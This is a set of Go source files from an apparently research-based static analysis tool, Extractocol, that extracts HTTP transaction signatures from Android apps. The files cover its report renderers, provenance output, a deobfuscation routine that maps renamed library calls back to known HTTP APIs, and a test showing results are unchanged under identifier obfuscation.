// Package report renders analysis results for human and machine
// consumption: a text summary of every reconstructed transaction (the CLI
// default), machine-readable JSON, and a Graphviz DOT rendering of the
// inter-transaction dependency graph like the figures in Tables 3 and 4.
package report

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"time"

	"extractocol/internal/budget"
	"extractocol/internal/core"
	"extractocol/internal/obs"
	"extractocol/internal/siglang"
	"extractocol/internal/txdep"
)

// Text renders the full report as human-readable text.
func Text(r *core.Report) string {
	return TextOpts(r, Options{})
}

// TextOpts is Text with optional report layers enabled. The zero Options
// value renders exactly what Text renders.
func TextOpts(r *core.Report, o Options) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Extractocol report for %s (%s)\n", r.AppName, r.Package)
	fmt.Fprintf(&b, "  transactions: %d   pairs: %d   dependencies: %d\n",
		len(r.Transactions), r.PairCount(), len(r.Deps))
	fmt.Fprintf(&b, "  slice fraction: %.1f%%   analysis time: %s\n",
		r.SliceFraction*100, r.Duration.Round(1000000))
	if r.Profile != nil && len(r.Profile.Phases) > 0 {
		b.WriteString("  phases:")
		for _, ph := range r.Profile.Phases {
			fmt.Fprintf(&b, " %s=%s", ph.Name, time.Duration(ph.DurationNS).Round(time.Microsecond))
		}
		b.WriteString("\n")
	}
	// Degradation events only appear when something was dropped, so healthy
	// runs render byte-identically with or without budgets configured.
	if len(r.Diagnostics) > 0 {
		fmt.Fprintf(&b, "  diagnostics: %d degradation event(s)\n", len(r.Diagnostics))
		for _, d := range r.Diagnostics {
			fmt.Fprintf(&b, "    %s\n", d)
		}
	}
	b.WriteString("\n")

	for _, tx := range r.Transactions {
		fmt.Fprintf(&b, "#%d %s %s\n", tx.ID, tx.Request.Method, siglang.RegexBody(tx.Request.URI))
		if len(tx.Request.Headers) > 0 {
			for _, h := range tx.Request.Headers {
				fmt.Fprintf(&b, "    header %s: %s\n", h.Key, siglang.RegexBody(h.Val))
			}
		}
		if tx.Request.BodyKind != "" {
			fmt.Fprintf(&b, "    body (%s): %s\n", tx.Request.BodyKind, bodyText(tx.Request.Body))
		}
		if tx.Response != nil && tx.Response.HasBody() {
			fmt.Fprintf(&b, "    response (%s): %s\n", tx.Response.BodyKind, respText(tx))
			switch {
			case tx.SharedHandler:
				b.WriteString("    pairing: shared response handler (many-to-one)\n")
			case tx.OneToOne && tx.FlowConfirmed:
				b.WriteString("    pairing: one-to-one (flow-confirmed)\n")
			case tx.OneToOne:
				b.WriteString("    pairing: one-to-one\n")
			}
		}
		if len(tx.Sinks) > 0 {
			fmt.Fprintf(&b, "    response goes to: %s\n", strings.Join(tx.Sinks, ", "))
		}
		if len(tx.Sources) > 0 {
			fmt.Fprintf(&b, "    request data from: %s\n", strings.Join(tx.Sources, ", "))
		}
		if o.Security {
			if info := SecurityFor(tx); info != nil {
				fmt.Fprintf(&b, "    security: %s\n", securityLine(info))
			}
		}
		seen := map[string]bool{}
		for _, d := range depsFor(r, tx.ID) {
			line := fmt.Sprintf("    uses tx #%d's %s for %s\n", d.From, field(d.FromField), d.ToPart)
			if seen[line] {
				continue
			}
			seen[line] = true
			b.WriteString(line)
		}
	}
	return b.String()
}

func field(f string) string {
	if f == "" {
		return "response"
	}
	return "response field " + f
}

func bodyText(s siglang.Sig) string {
	if j, ok := s.(*siglang.JSON); ok {
		return siglang.JSONSchema(j)
	}
	return siglang.RegexBody(s)
}

func respText(tx *core.Transaction) string {
	switch tx.Response.BodyKind {
	case "json":
		return "keys " + strings.Join(siglang.Keywords(&siglang.JSON{Root: tx.Response.JSON}), ", ")
	case "xml":
		return "tags " + strings.Join(siglang.Keywords(&siglang.XML{Root: tx.Response.XML}), ", ")
	default:
		return "raw"
	}
}

func depsFor(r *core.Report, id int) []txdep.Dep {
	var out []txdep.Dep
	for _, d := range r.Deps {
		if d.To == id {
			out = append(out, d)
		}
	}
	return out
}

// jsonTx is the machine-readable transaction shape.
type jsonTx struct {
	ID         int               `json:"id"`
	Method     string            `json:"method"`
	URIRegex   string            `json:"uri_regex"`
	Headers    map[string]string `json:"headers,omitempty"`
	BodyKind   string            `json:"body_kind,omitempty"`
	BodyRegex  string            `json:"body_regex,omitempty"`
	BodySchema string            `json:"body_schema,omitempty"`
	RespKind   string            `json:"resp_kind,omitempty"`
	RespKeys   []string          `json:"resp_keys,omitempty"`
	RespSchema string            `json:"resp_schema,omitempty"`
	RespDTD    string            `json:"resp_dtd,omitempty"`
	Paired     bool              `json:"paired"`
	Sinks      []string          `json:"sinks,omitempty"`
	Sources    []string          `json:"sources,omitempty"`
	DP         string            `json:"demarcation_point"`
	Security   *SecurityInfo     `json:"security,omitempty"`
}

type jsonDep struct {
	From      int    `json:"from"`
	To        int    `json:"to"`
	FromField string `json:"from_field,omitempty"`
	ToPart    string `json:"to_part"`
	Via       string `json:"via"`
}

type jsonReport struct {
	Package       string              `json:"package"`
	App           string              `json:"app"`
	Transactions  []jsonTx            `json:"transactions"`
	Deps          []jsonDep           `json:"dependencies,omitempty"`
	Pairs         int                 `json:"pairs"`
	SliceFraction float64             `json:"slice_fraction"`
	DurationMS    int64               `json:"duration_ms"`
	Profile       *obs.Profile        `json:"profile,omitempty"`
	Diagnostics   []budget.Diagnostic `json:"diagnostics,omitempty"`
}

// JSON renders the report as indented JSON.
func JSON(r *core.Report) ([]byte, error) {
	return JSONOpts(r, Options{})
}

// JSONOpts is JSON with optional report layers enabled. The zero Options
// value renders exactly what JSON renders.
func JSONOpts(r *core.Report, o Options) ([]byte, error) {
	out := jsonReport{
		Package:       r.Package,
		App:           r.AppName,
		Pairs:         r.PairCount(),
		SliceFraction: r.SliceFraction,
		DurationMS:    r.Duration.Milliseconds(),
		Profile:       r.Profile,
		Diagnostics:   r.Diagnostics,
	}
	for _, tx := range r.Transactions {
		jt := jsonTx{
			ID:       tx.ID,
			Method:   tx.Request.Method,
			URIRegex: tx.URIRegex(),
			BodyKind: tx.Request.BodyKind,
			Paired:   tx.Paired,
			Sinks:    tx.Sinks,
			Sources:  tx.Sources,
			DP:       tx.DP,
		}
		if o.Security {
			jt.Security = SecurityFor(tx)
		}
		if len(tx.Request.Headers) > 0 {
			jt.Headers = map[string]string{}
			for _, h := range tx.Request.Headers {
				jt.Headers[h.Key] = siglang.RegexBody(h.Val)
			}
		}
		switch tx.Request.BodyKind {
		case "json":
			jt.BodySchema = siglang.JSONSchema(tx.Request.Body)
		case "":
		default:
			jt.BodyRegex = siglang.Regex(tx.Request.Body)
		}
		if tx.Response != nil && tx.Response.HasBody() {
			jt.RespKind = tx.Response.BodyKind
			switch tx.Response.BodyKind {
			case "json":
				jt.RespKeys = siglang.Keywords(&siglang.JSON{Root: tx.Response.JSON})
				jt.RespSchema = siglang.JSONSchema(&siglang.JSON{Root: tx.Response.JSON})
			case "xml":
				jt.RespKeys = siglang.Keywords(&siglang.XML{Root: tx.Response.XML})
				jt.RespDTD = siglang.DTD(&siglang.XML{Root: tx.Response.XML})
			}
		}
		out.Transactions = append(out.Transactions, jt)
	}
	for _, d := range r.Deps {
		out.Deps = append(out.Deps, jsonDep(d))
	}
	return json.MarshalIndent(out, "", "  ")
}

// ProfileJSON renders just the per-phase observability breakdown of a
// report as indented JSON — the payload behind the -profile CLI flag.
func ProfileJSON(r *core.Report) ([]byte, error) {
	type profileDoc struct {
		Package    string       `json:"package"`
		App        string       `json:"app"`
		DurationMS int64        `json:"duration_ms"`
		Profile    *obs.Profile `json:"profile"`
	}
	return json.MarshalIndent(profileDoc{
		Package:    r.Package,
		App:        r.AppName,
		DurationMS: r.Duration.Milliseconds(),
		Profile:    r.Profile,
	}, "", "  ")
}

// DOT renders the inter-transaction dependency graph in Graphviz format,
// the textual analog of the dependency figures in Tables 3 and 4.
func DOT(r *core.Report) string {
	var b strings.Builder
	b.WriteString("digraph transactions {\n  rankdir=LR;\n  node [shape=box];\n")
	for _, tx := range r.Transactions {
		label := fmt.Sprintf("#%d %s %s", tx.ID, tx.Request.Method, truncate(siglang.RegexBody(tx.Request.URI), 48))
		fmt.Fprintf(&b, "  t%d [label=%q];\n", tx.ID, label)
		for _, sink := range tx.Sinks {
			fmt.Fprintf(&b, "  t%d -> %q [style=dotted];\n", tx.ID, sink)
		}
	}
	edges := map[string]bool{}
	for _, d := range r.Deps {
		key := fmt.Sprintf("t%d->t%d:%s", d.From, d.To, d.ToPart)
		if edges[key] {
			continue
		}
		edges[key] = true
		fmt.Fprintf(&b, "  t%d -> t%d [label=%q];\n", d.From, d.To,
			truncate(d.FromField+" -> "+d.ToPart, 40))
	}
	b.WriteString("}\n")
	return b.String()
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-3] + "..."
}

// SummaryByPrefix groups transactions by URI prefix, reproducing the Kayak
// category table (Table 5): category prefix -> method -> count.
type PrefixGroup struct {
	Method string
	Prefix string
	Count  int
	Hosts  []string
}

// GroupByPrefix buckets transactions by the first two path segments of
// their URI literals.
func GroupByPrefix(r *core.Report) []PrefixGroup {
	type key struct{ method, prefix string }
	counts := map[key]int{}
	hosts := map[key]map[string]bool{}
	for _, tx := range r.Transactions {
		host, prefix := uriPrefix(siglang.RegexBody(tx.Request.URI))
		k := key{tx.Request.Method, prefix}
		counts[k]++
		if hosts[k] == nil {
			hosts[k] = map[string]bool{}
		}
		hosts[k][host] = true
	}
	var out []PrefixGroup
	for k, c := range counts {
		g := PrefixGroup{Method: k.method, Prefix: k.prefix, Count: c}
		for h := range hosts[k] {
			g.Hosts = append(g.Hosts, h)
		}
		sort.Strings(g.Hosts)
		out = append(out, g)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		if out[i].Prefix != out[j].Prefix {
			return out[i].Prefix < out[j].Prefix
		}
		return out[i].Method < out[j].Method
	})
	return out
}

// uriPrefix extracts host and the first two path segments from a regex
// fragment (unescaping regex quoting first).
func uriPrefix(re string) (host, prefix string) {
	s := strings.NewReplacer(`\.`, ".", `\?`, "?", `\/`, "/").Replace(re)
	s = strings.TrimPrefix(strings.TrimPrefix(s, "https://"), "http://")
	if i := strings.IndexAny(s, "?("); i >= 0 {
		s = s[:i]
	}
	parts := strings.SplitN(s, "/", 4)
	host = parts[0]
	if len(parts) >= 3 {
		return host, "/" + parts[1] + "/" + parts[2]
	}
	if len(parts) == 2 {
		return host, "/" + parts[1]
	}
	return host, "/"
}

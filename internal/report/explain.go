// Explain rendering: the per-transaction provenance chain recorded by the
// analysis under core.Options.Explain, shown by the -explain CLI flag. Each
// transaction's chain answers "why does this signature exist": the entry
// point that rooted the slice, the demarcation point, the slice and
// augmentation sizes, the pairing flow witness, the heap locations bridging
// asynchronous events, the abstract-interpretation cost of the signature,
// and the dependency edges feeding the request.
package report

import (
	"encoding/json"
	"fmt"
	"strings"

	"extractocol/internal/core"
	"extractocol/internal/siglang"
)

// ExplainText renders every transaction's evidence chain as indented text.
// Transactions without evidence (analysis ran with Explain off, or folded
// records from older reports) render a single "no evidence recorded" line
// rather than failing.
func ExplainText(r *core.Report) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Provenance for %s (%s): %d transaction(s)\n",
		r.AppName, r.Package, len(r.Transactions))
	for _, tx := range r.Transactions {
		fmt.Fprintf(&b, "\n#%d %s %s\n", tx.ID, tx.Request.Method,
			siglang.RegexBody(tx.Request.URI))
		ev := tx.Evidence
		if ev == nil {
			b.WriteString("    no evidence recorded (run with -explain)\n")
			continue
		}
		fmt.Fprintf(&b, "    entry: %s [%s]", ev.Entry, ev.EntryKind)
		if ev.EntryLabel != "" {
			fmt.Fprintf(&b, " (%s)", ev.EntryLabel)
		}
		b.WriteString("\n")
		if len(tx.Entries) > 1 {
			fmt.Fprintf(&b, "    folded entries: %s\n", strings.Join(tx.Entries, ", "))
		}
		fmt.Fprintf(&b, "    demarcation point: %s (%s)\n", ev.DP, ev.DPRef)
		fmt.Fprintf(&b, "    request slice: %d stmts in %d methods (%d sliced + %d augmented)\n",
			ev.ReqStmts, ev.ReqMethods, ev.ReqSliced, ev.ReqStmts-ev.ReqSliced)
		if ev.RespStmts > 0 {
			fmt.Fprintf(&b, "    response slice: %d stmts in %d methods (%d sliced + %d augmented)\n",
				ev.RespStmts, ev.RespMethods, ev.RespSliced, ev.RespStmts-ev.RespSliced)
		}
		switch {
		case ev.FlowWitness != "":
			fmt.Fprintf(&b, "    pairing flow: confirmed from %d seed stmt(s), witness %s\n",
				ev.FlowSeeds, ev.FlowWitness)
		case ev.FlowSeeds > 0:
			fmt.Fprintf(&b, "    pairing flow: unconfirmed (%d seed stmt(s))\n", ev.FlowSeeds)
		}
		if len(ev.HeapReads) > 0 {
			fmt.Fprintf(&b, "    heap reads: %s\n", strings.Join(ev.HeapReads, ", "))
		}
		if len(ev.HeapWrites) > 0 {
			fmt.Fprintf(&b, "    heap writes: %s\n", strings.Join(ev.HeapWrites, ", "))
		}
		fmt.Fprintf(&b, "    signature: %d method interpretation(s)", ev.SigMethods)
		if ev.SigPrePass > 0 {
			fmt.Fprintf(&b, " (%d pre-pass)", ev.SigPrePass)
		}
		b.WriteString("\n")
		seen := map[string]bool{}
		for _, d := range depsFor(r, tx.ID) {
			line := "    depends: " + d.Explain() + "\n"
			if seen[line] {
				continue
			}
			seen[line] = true
			b.WriteString(line)
		}
	}
	return b.String()
}

// explainTx is the machine-readable shape of one transaction's evidence.
type explainTx struct {
	ID       int            `json:"id"`
	Method   string         `json:"method"`
	URIRegex string         `json:"uri_regex"`
	Entries  []string       `json:"entries,omitempty"`
	Evidence *core.Evidence `json:"evidence"`
	Deps     []jsonDep      `json:"deps,omitempty"`
}

// ExplainJSON renders the evidence chains as indented JSON — the payload
// behind "-explain" with "-format json". Evidence is null for transactions
// analyzed without the explain layer.
func ExplainJSON(r *core.Report) ([]byte, error) {
	type explainDoc struct {
		Package      string      `json:"package"`
		App          string      `json:"app"`
		Transactions []explainTx `json:"transactions"`
	}
	doc := explainDoc{Package: r.Package, App: r.AppName}
	for _, tx := range r.Transactions {
		et := explainTx{
			ID:       tx.ID,
			Method:   tx.Request.Method,
			URIRegex: tx.URIRegex(),
			Entries:  tx.Entries,
			Evidence: tx.Evidence,
		}
		for _, d := range depsFor(r, tx.ID) {
			et.Deps = append(et.Deps, jsonDep(d))
		}
		doc.Transactions = append(doc.Transactions, et)
	}
	return json.MarshalIndent(doc, "", "  ")
}

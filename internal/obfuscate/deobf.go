package obfuscate

import (
	"sort"
	"strings"

	"extractocol/internal/ir"
	"extractocol/internal/semmodel"
)

// Deobfuscate recovers a mapping from obfuscated library references back to
// modeled API references by signature-pattern similarity (§3.4): for each
// unknown class referenced by the program, the observed call shapes (arity,
// presence of a result, constructor-ness, constant-argument hints) are
// compared against every modeled class; the class with the most matching
// method shapes wins, and its methods are assigned shape-by-shape. The
// program is rewritten in place; the returned map records obf -> original.
//
// As in the paper, an ambiguous shape (e.g. JSONObject.getString versus
// getInt) may map to the wrong sibling, in which case Extractocol degrades
// to wildcard signatures rather than failing.
func Deobfuscate(p *ir.Program, model *semmodel.Model) map[string]string {
	// Observed shape of each unknown method reference.
	type shape struct {
		args     int
		hasRet   bool
		isInit   bool
		isStatic bool
		uriHint  bool // some call site passes a constant http(s) URI
	}
	observed := map[string]*shape{} // obf ref -> shape
	classOf := map[string][]string{}

	known := func(ref string) bool {
		if model.Lookup(ref) != nil {
			return true
		}
		cls, name, ok := ir.SplitRef(ref)
		if !ok {
			return true
		}
		if p.ResolveMethod(cls, name) != nil {
			return true
		}
		// References into declared app/library classes are not candidates.
		if c := p.Class(cls); c != nil && !c.Library {
			return true
		}
		// Well-known platform namespaces that are simply unmodeled.
		for _, prefix := range []string{"java.lang.Object", "android.app."} {
			if strings.HasPrefix(ref, prefix) {
				return true
			}
		}
		return false
	}

	for _, c := range p.AppClasses() {
		for _, m := range c.Methods {
			for i := range m.Instrs {
				in := &m.Instrs[i]
				if in.Op != ir.OpInvoke || known(in.Sym) {
					continue
				}
				cls, name, _ := ir.SplitRef(in.Sym)
				s := observed[in.Sym]
				if s == nil {
					s = &shape{args: len(in.Args), hasRet: in.Dst != ir.NoReg,
						isInit: name == "<init>", isStatic: in.Kind == ir.InvokeStatic}
					observed[in.Sym] = s
					classOf[cls] = append(classOf[cls], in.Sym)
				}
				if in.Dst != ir.NoReg {
					s.hasRet = true
				}
				// Constant URI hint from the preceding definition.
				for _, a := range in.Args {
					for j := i - 1; j >= 0 && j > i-8; j-- {
						d := &m.Instrs[j]
						if d.Op == ir.OpConstStr && d.Dst == a &&
							(strings.HasPrefix(d.Str, "http://") || strings.HasPrefix(d.Str, "https://")) {
							s.uriHint = true
						}
					}
				}
			}
		}
	}
	if len(observed) == 0 {
		return map[string]string{}
	}

	// Usage flags from allocation-site dataflow: an object passed as the
	// non-receiver argument of an exec-like call (two args, result) is a
	// request; the receiver of such a call is a client; an object stored
	// into a request via a void two-arg call is an entity. These mirror
	// the paper's "look at the decompiled code" disambiguation step.
	isReqLike := map[string]bool{}
	isClientLike := map[string]bool{}
	isEntityLike := map[string]bool{}
	entityArgIsString := map[string]bool{}
	for pass := 0; pass < 2; pass++ {
		for _, c := range p.AppClasses() {
			for _, m := range c.Methods {
				allocCls := map[int]string{} // register -> obf class
				strReg := map[int]bool{}     // register holds a string
				for i := range m.Instrs {
					in := &m.Instrs[i]
					switch in.Op {
					case ir.OpNew:
						if _, isObf := classOf[in.Sym]; isObf || !known(in.Sym+".<init>") {
							allocCls[in.Dst] = in.Sym
						}
					case ir.OpConstStr:
						strReg[in.Dst] = true
					case ir.OpInvoke:
						if in.Dst != ir.NoReg {
							if mm := model.Lookup(in.Sym); mm != nil &&
								(mm.Kind == semmodel.KToString || mm.Kind == semmodel.KStringConcat ||
									mm.Kind == semmodel.KValueOf || mm.Kind == semmodel.KURLEncode) {
								strReg[in.Dst] = true
							}
						}
						if len(in.Args) == 2 && in.Dst != ir.NoReg && in.Kind != ir.InvokeStatic {
							// exec-like
							if cls, ok := allocCls[in.Args[1]]; ok {
								isReqLike[cls] = true
							}
							if cls, ok := allocCls[in.Args[0]]; ok {
								isClientLike[cls] = true
							}
						}
						if len(in.Args) == 2 && in.Dst == ir.NoReg && in.Kind == ir.InvokeVirtual {
							// setEntity-like: receiver must be request-like.
							if rcls, ok := allocCls[in.Args[0]]; ok && isReqLike[rcls] {
								if ecls, ok2 := allocCls[in.Args[1]]; ok2 {
									isEntityLike[ecls] = true
								}
							}
						}
						if _, name, okRef := ir.SplitRef(in.Sym); okRef && name == "<init>" &&
							len(in.Args) == 2 {
							if cls, ok := allocCls[in.Args[0]]; ok && strReg[in.Args[1]] {
								entityArgIsString[cls] = true
							}
						}
					}
				}
			}
		}
	}

	// Candidate model classes and their method shapes.
	type cand struct {
		ref      string
		args     int // expected argument count including receiver
		hasRet   bool
		isInit   bool
		staticOK bool
		uriHint  bool
	}
	byClass := map[string][]cand{}
	for _, mm := range model.Methods() {
		cls, name, ok := ir.SplitRef(mm.Ref)
		if !ok {
			continue
		}
		c := cand{ref: mm.Ref, isInit: name == "<init>"}
		c.args, c.hasRet, c.uriHint = expectedShape(mm)
		c.staticOK = staticCallable(mm.Kind)
		byClass[cls] = append(byClass[cls], c)
	}
	modelClasses := make([]string, 0, len(byClass))
	for cls := range byClass {
		modelClasses = append(modelClasses, cls)
	}
	sort.Strings(modelClasses)

	out := map[string]string{}
	obfClasses := make([]string, 0, len(classOf))
	for cls := range classOf {
		obfClasses = append(obfClasses, cls)
	}
	sort.Strings(obfClasses)

	match := func(s *shape, c cand) bool {
		if s.isStatic && !c.staticOK {
			return false
		}
		return shapeMatches(s.args, s.hasRet, s.isInit, s.uriHint, c.args, c.hasRet, c.isInit, c.uriHint)
	}
	classScore := func(obfCls, mc string) int {
		score := 0
		for _, ref := range classOf[obfCls] {
			s := observed[ref]
			for _, c := range byClass[mc] {
				if match(s, c) {
					score++
					break
				}
			}
		}
		return score
	}

	// Family coherence: an app links one HTTP stack at a time, so prefer
	// mapping the whole obfuscated group into the library family that
	// explains the most observed methods.
	family := func(cls string) string {
		parts := strings.SplitN(cls, ".", 3)
		if len(parts) >= 2 {
			return parts[0] + "." + parts[1]
		}
		return cls
	}
	famScore := map[string]int{}
	for _, obfCls := range obfClasses {
		bestPerFam := map[string]int{}
		for _, mc := range modelClasses {
			if sc := classScore(obfCls, mc); sc > bestPerFam[family(mc)] {
				bestPerFam[family(mc)] = sc
			}
		}
		for f, sc := range bestPerFam {
			famScore[f] += sc
		}
	}
	bestFam, bestFamScore := "", -1
	fams := make([]string, 0, len(famScore))
	for f := range famScore {
		fams = append(fams, f)
	}
	sort.Strings(fams)
	for _, f := range fams {
		if famScore[f] > bestFamScore {
			bestFamScore, bestFam = famScore[f], f
		}
	}

	classHasKind := func(mc string, kinds ...semmodel.Kind) bool {
		for _, c := range byClass[mc] {
			mm := model.Lookup(c.ref)
			if mm == nil {
				continue
			}
			for _, k := range kinds {
				if mm.Kind == k {
					return true
				}
			}
		}
		return false
	}

	for _, obfCls := range obfClasses {
		refs := classOf[obfCls]
		sort.Strings(refs)
		if isClientLike[obfCls] && !isReqLike[obfCls] {
			// Client classes (DefaultHttpClient-style) need no mapping:
			// their constructors are inert; the execute call itself is
			// mapped through its own (shared) declaring class.
			onlyInits := true
			for _, ref := range refs {
				if !observed[ref].isInit {
					onlyInits = false
				}
			}
			if onlyInits {
				continue
			}
		}
		admissible := func(mc string) bool {
			switch {
			case isReqLike[obfCls]:
				return classHasKind(mc, semmodel.KHTTPReqInit, semmodel.KURLInit)
			case isEntityLike[obfCls]:
				if entityArgIsString[obfCls] {
					return classHasKind(mc, semmodel.KStringEntityInit)
				}
				return classHasKind(mc, semmodel.KStringEntityInit, semmodel.KFormEntityInit)
			default:
				return true
			}
		}
		// Score candidate classes, preferring the coherent family and, on
		// ties, classes that explain a demarcation point.
		bestCls, bestScore, bestDP := "", 0, false
		for _, inFamily := range []bool{true, false} {
			for _, mc := range modelClasses {
				if inFamily != (family(mc) == bestFam) {
					continue
				}
				if !admissible(mc) {
					continue
				}
				sc := classScore(obfCls, mc)
				dp := classHasKind(mc, semmodel.KExecuteDP, semmodel.KEnqueueDP)
				if sc > bestScore || (sc == bestScore && sc > 0 && dp && !bestDP) {
					bestScore, bestCls, bestDP = sc, mc, dp
				}
			}
			if bestScore > 0 {
				break
			}
		}
		if bestScore <= 0 {
			continue
		}
		// Assign methods within the winning class, preferring unused
		// candidates so siblings spread across distinct targets.
		used := map[string]bool{}
		for _, ref := range refs {
			s := observed[ref]
			_, name, _ := ir.SplitRef(ref)
			var pick string
			for pass := 0; pass < 2 && pick == ""; pass++ {
				for _, c := range byClass[bestCls] {
					if pass == 0 && used[c.ref] {
						continue
					}
					_, cname, _ := ir.SplitRef(c.ref)
					if s.isInit != (cname == "<init>") {
						continue
					}
					if match(s, c) {
						pick = c.ref
						break
					}
				}
			}
			if pick == "" && name == "<init>" {
				pick = bestCls + ".<init>"
			}
			if pick != "" {
				out[ref] = pick
				used[pick] = true
			}
		}
	}

	// Rewrite call sites.
	for _, c := range p.AppClasses() {
		for _, m := range c.Methods {
			for i := range m.Instrs {
				in := &m.Instrs[i]
				if in.Op == ir.OpInvoke {
					if orig, ok := out[in.Sym]; ok {
						in.Sym = orig
					}
				}
			}
		}
	}
	return out
}

// expectedShape derives the call shape implied by a modeled method's kind.
func expectedShape(mm *semmodel.Method) (args int, hasRet, uriHint bool) {
	switch mm.Kind {
	case semmodel.KHTTPReqInit, semmodel.KURLInit:
		return 2, false, true
	case semmodel.KStringBuilderInit, semmodel.KJSONInit, semmodel.KListInit,
		semmodel.KMapInit, semmodel.KCVInit, semmodel.KOkRequestBuilder:
		return 1, false, false
	case semmodel.KAppend, semmodel.KStringConcat:
		return 2, true, false
	case semmodel.KToString, semmodel.KJSONToString, semmodel.KRespGetEntity,
		semmodel.KOpenConnection, semmodel.KConnGetOutput, semmodel.KConnGetInput,
		semmodel.KRespBody, semmodel.KOkBuild, semmodel.KJSONArrLen:
		return 1, true, false
	case semmodel.KExecuteDP:
		if mm.ReqArg == 0 {
			return 1, true, false
		}
		return 2, true, false
	case semmodel.KEnqueueDP:
		return 2, false, false
	case semmodel.KJSONGetStr, semmodel.KJSONGetInt, semmodel.KJSONGetBool,
		semmodel.KJSONGetObj, semmodel.KJSONGetArr, semmodel.KJSONArrGet,
		semmodel.KMapGet, semmodel.KListGet,
		semmodel.KRespGetHeader, semmodel.KValueOf:
		return 2, true, false
	case semmodel.KEntityContent, semmodel.KJSONParse:
		// EntityUtils.toString(entity) / JSONObject.parse(str): one value
		// argument, callable statically.
		return 1, true, false
	case semmodel.KJSONPut, semmodel.KMapPut, semmodel.KCVPut,
		semmodel.KHTTPAddHeader, semmodel.KConnSetHeader:
		return 3, false, false
	case semmodel.KHTTPSetEntity, semmodel.KStringEntityInit, semmodel.KListAdd,
		semmodel.KConnSetMethod, semmodel.KStreamWrite, semmodel.KFormEntityInit:
		return 2, false, false
	case semmodel.KNVPairInit:
		return 3, false, false
	case semmodel.KSocketInit:
		// new Socket(host, port)
		return 3, false, false
	case semmodel.KURLEncode:
		return 1, true, false
	default:
		return 1, false, false
	}
}

// staticCallable reports whether methods of this kind appear as static
// calls in application code.
func staticCallable(k semmodel.Kind) bool {
	switch k {
	case semmodel.KValueOf, semmodel.KURLEncode, semmodel.KEntityContent,
		semmodel.KJSONParse, semmodel.KXMLParse, semmodel.KOkBodyCreate,
		semmodel.KStringFormatIdentity:
		return true
	}
	return false
}

func shapeMatches(args int, hasRet, isInit, uriHint bool,
	cArgs int, cRet, cInit, cURI bool) bool {
	if isInit != cInit {
		return false
	}
	if args != cArgs {
		return false
	}
	if hasRet && !cRet {
		return false
	}
	if uriHint && !cURI && isInit {
		return false
	}
	return true
}

package obfuscate

import (
	"strings"
	"testing"

	"extractocol/internal/core"
	"extractocol/internal/ir"
	"extractocol/internal/semmodel"
	"extractocol/internal/siglang"
)

const (
	sbInit  = "java.lang.StringBuilder.<init>"
	sbApp   = "java.lang.StringBuilder.append"
	sbStr   = "java.lang.StringBuilder.toString"
	getInit = "org.apache.http.client.methods.HttpGet.<init>"
	clInit  = "org.apache.http.impl.client.DefaultHttpClient.<init>"
	execRef = "org.apache.http.client.HttpClient.execute"
	jParse  = "org.json.JSONObject.parse"
	jGetStr = "org.json.JSONObject.getString"
	entCont = "org.apache.http.util.EntityUtils.toString"
	getEnt  = "org.apache.http.HttpResponse.getEntity"
)

func buildApp() *ir.Program {
	p := ir.NewProgram("com.demo.app")
	c := p.AddClass(&ir.Class{Name: "com.demo.app.Api", Fields: []*ir.Field{
		{Name: "sessionToken", Type: "java.lang.String"},
	}})
	b := ir.NewMethod(c, "onCreate", false, nil, "void")
	sb := b.New("java.lang.StringBuilder")
	b.InvokeSpecial(sbInit, sb)
	s1 := b.ConstStr("https://demo.example.com/v1/feed.json?page=")
	b.InvokeVoid(sbApp, sb, s1)
	n := b.ConstInt(1)
	b.InvokeVoid(sbApp, sb, n)
	uri := b.Invoke(sbStr, sb)
	req := b.New("org.apache.http.client.methods.HttpGet")
	b.InvokeSpecial(getInit, req, uri)
	cl := b.New("org.apache.http.impl.client.DefaultHttpClient")
	b.InvokeSpecial(clInit, cl)
	resp := b.Invoke(execRef, cl, req)
	ent := b.Invoke(getEnt, resp)
	raw := b.InvokeStatic(entCont, ent)
	js := b.InvokeStatic(jParse, raw)
	k := b.ConstStr("token")
	tok := b.Invoke(jGetStr, js, k)
	b.FieldPut(b.This(), "sessionToken", tok)
	b.InvokeVoid("com.demo.app.Api.helper", b.This())
	b.ReturnVoid()
	b.Done()
	h := ir.NewMethod(c, "helper", false, nil, "void")
	h.ReturnVoid()
	h.Done()
	p.Manifest.EntryPoints = []ir.EntryPoint{{Method: "com.demo.app.Api.onCreate", Kind: ir.EventCreate}}
	return p
}

func analyze(t *testing.T, p *ir.Program) *core.Report {
	t.Helper()
	rep, err := core.Analyze(p, core.NewOptions())
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func TestApplyRenamesAppIdentifiers(t *testing.T) {
	p := buildApp()
	m := Apply(p, Options{KeepEntryPoints: true})
	if p.Class("com.demo.app.Api") != nil {
		t.Fatal("original class name survived")
	}
	if !p.Manifest.Obfuscated {
		t.Fatal("manifest not marked obfuscated")
	}
	if _, ok := m.Classes["com.demo.app.Api"]; !ok {
		t.Fatal("class mapping missing")
	}
	// helper must be renamed; the field too.
	renames := m.SortedRenames()
	found := false
	for _, r := range renames {
		if strings.HasPrefix(r, "com.demo.app.Api.helper -> ") {
			found = true
		}
	}
	if !found {
		t.Fatalf("helper not renamed: %v", renames)
	}
	if err := p.Validate(); err != nil {
		t.Fatalf("obfuscated program invalid: %v", err)
	}
}

// The paper's key claim (§5.1): obfuscation does not change Extractocol's
// output, because identifier renaming does not affect its operation.
func TestAnalysisIdenticalUnderObfuscation(t *testing.T) {
	plain := analyze(t, buildApp())

	obf := buildApp()
	Apply(obf, Options{KeepEntryPoints: true})
	obfRep := analyze(t, obf)

	if len(plain.Transactions) != len(obfRep.Transactions) {
		t.Fatalf("tx counts differ: %d vs %d", len(plain.Transactions), len(obfRep.Transactions))
	}
	for i := range plain.Transactions {
		a, b := plain.Transactions[i], obfRep.Transactions[i]
		if a.URIRegex() != b.URIRegex() {
			t.Errorf("URI differs: %q vs %q", a.URIRegex(), b.URIRegex())
		}
		if a.Request.Method != b.Request.Method {
			t.Errorf("method differs")
		}
		ak := siglang.Keywords(&siglang.JSON{Root: a.Response.JSON})
		bk := siglang.Keywords(&siglang.JSON{Root: b.Response.JSON})
		if strings.Join(ak, ",") != strings.Join(bk, ",") {
			t.Errorf("response keywords differ: %v vs %v", ak, bk)
		}
	}
}

